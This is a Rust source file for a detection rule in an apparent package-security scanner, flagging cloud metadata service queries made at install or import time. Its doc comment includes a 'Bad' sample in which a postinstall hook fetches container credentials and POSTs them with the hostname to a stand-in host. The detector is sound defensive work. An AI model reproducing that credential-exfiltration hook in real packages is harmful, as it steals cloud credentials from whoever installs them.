//! # The cloud's metadata service is asked at install or import
//!
//! A request goes to the address where a cloud answers with facts and credentials of the machine, though
//! nobody called for it.
//!
//! ## Why it matters
//!
//! Only code on the machine can ask there, so code that wants the machine's credentials asks first.
//!
//! ## Known benign uses
//!
//! Monitoring agents ask for the kind of the machine when they are loaded. Cloud SDKs ask when they are
//! called.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const os = require("os");
//! fetch("http://169.254.170.2/v2/credentials/x").then((reply) => reply.json()).then((grant) => { //~ here
//!   fetch("https://collector.invalid/", { method: "POST", body: JSON.stringify([grant, os.hostname()]) });
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.region = () => fetch("http://169.254.169.254/latest/meta-data/placement/region");
//! ```
//!
//! ## References
//!
//! - AWS: Use the Instance Metadata Service

use stockade_facts::api::Effect;

use crate::prelude::*;

/// The cloud's metadata service is asked at install or import.
pub struct MetadataServiceQueriedUnasked;

impl Rule for MetadataServiceQueriedUnasked {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "metadata-service-queried-unasked",
            title: "The cloud's metadata service is asked at install or import",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1552.005",
            covers: &["collect-cloud-metadata"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for call in facts.all_calls().iter().filter(|call| call.trigger.runs_unasked() && sends(call)) {
            let texts = call.arguments.iter().take(2).flat_map(|argument| {
                let options =
                    argument.options.iter().filter(|(name, _)| is_host_option(name)).map(|(_, text)| text);
                argument.texts.iter().chain(options)
            });
            let mut hosts = texts.filter_map(|text| Host::of(text, true));
            if hosts.any(|host| host.class() == HostClass::MetadataService) {
                found.call(call, "asks the cloud's metadata service");
            }
        }
    }
}

fn sends(call: &CallFact) -> bool {
    stockade_facts::api::find(&call.api).is_some_and(|api| matches!(api.effect, Effect::Send(_)))
}

fn is_host_option(name: &str) -> bool {
    matches!(name, "host" | "hostname" | "url" | "uri" | "baseURL")
}
